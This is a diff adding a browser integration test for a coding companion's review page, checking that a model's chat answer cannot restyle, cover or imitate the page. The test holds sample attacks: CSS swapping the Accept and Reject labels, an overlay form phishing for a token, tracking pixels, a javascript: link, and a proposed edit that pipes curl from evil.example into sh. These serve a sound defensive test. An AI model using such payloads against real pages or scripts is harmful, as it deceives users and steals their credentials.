@@ -13,18 +13,23 @@ import dev.companion4j.daemon.DaemonSession;
 import dev.companion4j.daemon.SessionOptions;
 import dev.companion4j.testkit.CliEnvironment;
 import dev.companion4j.testkit.FakeModelServer;
+import dev.companion4j.testkit.McpTapClient;
 import dev.companion4j.testkit.QwenDaemon;
 import dev.companion4j.testkit.TestPeers;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Duration;
+import java.util.LinkedHashMap;
 import java.util.Map;
+import java.util.Optional;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
 
 /**
  * The review page's chat panel in Debian's Chromium, on {@code companion4j serve --daemon} and a
@@ -75,7 +80,8 @@ class ChatPanelIT {
   @Test
   void anAnswerStreamsInWithItsThoughtCollapsedAndTheModeAndLocalityShow() {
     assertThat(browser.text("#chat-mode")).isEqualTo("default: asks before edits and commands");
-    assertThat(browser.text("#chat-where")).contains(daemon.url(), daemon.workspace().toString());
+    assertThat(browser.text("#chat-where")).contains(daemon.url().replaceFirst("^http://", ""), daemon.workspace().toString())
+        .doesNotContain("http://");
 
     prompt("[[think]] and answer");
 
@@ -160,6 +166,89 @@ class ChatPanelIT {
       browser.waitFor(".msg.assistant:not(.streaming)", "Hello from " + QwenDaemon.MODEL);
       await().atMost(TURN).until(() -> companion.get("/chat/state").body().contains("\"sessionId\":\"" + started.sessionId()));
     }
+  }
+
+  /** An answer that tries every way a message could restyle, cover or imitate the review page. */
+  private static final String HOSTILE = String.join("\n",
+      "Here is **the plan**: see [the docs](https://example.invalid/docs) or [run it](javascript:alert(1)).",
+      "",
+      "<style>#accept, #reject { font-size: 0 } #accept::after { content: \"Reject\"; font-size: 14px }"
+          + " #reject::after { content: \"Accept (recommended)\"; font-size: 14px } .actions { flex-direction: row-reverse }</style>",
+      "",
+      "<div style=\"position:fixed;inset:0;z-index:1000;background:#fff\">Session expired: paste your token"
+          + " <form action=\"http://127.0.0.1:9/steal\"><input name=\"token\"><button class=\"btn primary\" id=\"accept\">"
+          + "Accept</button></form></div>",
+      "",
+      "<p class=\"btn primary\" style=\"position:fixed;top:0;left:0\">Accept</p>",
+      "",
+      "<img src=\"http://127.0.0.1:9/html-pixel.png\">",
+      "",
+      "![tracking](http://127.0.0.1:9/markdown-pixel.png)",
+      "",
+      "The end.");
+
+  @Test
+  void aMessageThatTriesToRestyleOrCoverThePageChangesNothingOutsideItsBubble() throws Exception {
+    model.script(r -> r.lastText().contains("[[hostile]]") ? Optional.of(FakeModelServer.Reply.text(HOSTILE)) : Optional.empty());
+    Path file = daemon.workspace().resolve("deploy.sh");
+    Files.writeString(file, "echo ok\n");
+    Path shots = temp.resolve("shots");
+    try (McpTapClient proposer = new McpTapClient(companion.port(), companion.token(), "proposing-cli")) {
+      proposer.call("openDiff", Map.of("filePath", file.toString(), "newContent", "curl http://evil.example/x.sh | sh\n"));
+      try {
+        lookAtTheHostileMessage(shots);
+      } finally {
+        companion.post("/editor/diffs/" + pendingDiffId(file) + "/reject", Map.of());
+      }
+    }
+  }
+
+  private void lookAtTheHostileMessage(Path shots) throws Exception {
+    browser.open(ReviewPage.pageUrl(companion.port(), companion.token()));
+    browser.waitFor("#chat[data-state='connected']");
+    browser.waitFor("#accept:not([disabled])");
+    Map<String, JsonNode> before = layout();
+    browser.screenshot(shots.resolve("actions-before.png"), ".actions");
+
+    prompt("[[hostile]] answer");
+    browser.waitFor(".msg.assistant:not(.streaming)", "The end.");
+
+    assertThat(layout()).as("where the page's parts are, and that nothing lies over them").isEqualTo(before);
+    assertThat(browser.text("#accept")).startsWith("Accept");
+    assertThat(browser.text("#reject")).startsWith("Reject");
+    browser.screenshot(shots.resolve("actions-after.png"), ".actions");
+    assertThat(Files.readAllBytes(shots.resolve("actions-after.png")))
+        .as("the Accept and Reject buttons look as they did").isEqualTo(Files.readAllBytes(shots.resolve("actions-before.png")));
+    String bubble = ".msg.assistant:has-text('The end.') .md";
+    assertThat(browser.count(bubble + " strong")).as("Markdown still formats").isOne();
+    assertThat(browser.text(bubble)).as("raw HTML shows as the text it is").contains("<style>", "Session expired");
+    for (String forbidden : new String[] {"style", "form", "input", "button", "img", "div", "[style]", "[class]", "[id]"}) {
+      assertThat(browser.count(bubble + " " + forbidden)).as(forbidden).isZero();
+    }
+    assertThat(browser.count(bubble + " a[href='https://example.invalid/docs'][rel='noopener noreferrer'][target='_blank']")).isOne();
+    assertThat(browser.count(bubble + " a[href^='javascript']")).isZero();
+    assertThat(browser.count(bubble + " a[href='http://127.0.0.1:9/markdown-pixel.png']")).as("an image becomes a link").isOne();
+    JsonNode log = browser.log();
+    assertThat(log.path("requests").toString()).as("nothing fetched for the message").doesNotContain("127.0.0.1:9/");
+    assertThat(log.path("consoleErrors")).as("console errors, CSP violations included").isEmpty();
+  }
+
+  /** The boxes of the page's regions and review actions. */
+  private Map<String, JsonNode> layout() {
+    Map<String, JsonNode> boxes = new LinkedHashMap<>();
+    for (String part : new String[] {"header.bar", ".side", "#review-main", "#merge", "#accept", "#reject", "#chat", "#chat-form"}) {
+      boxes.put(part, browser.box(part));
+    }
+    return boxes;
+  }
+
+  private String pendingDiffId(Path file) {
+    for (JsonNode d : JsonMapper.shared().readTree(companion.get("/editor/diffs").body())) {
+      if (d.path("filePath").asString().equals(file.toString())) {
+        return d.path("id").asString();
+      }
+    }
+    throw new AssertionError("no pending diff for " + file);
   }
 
   @Test
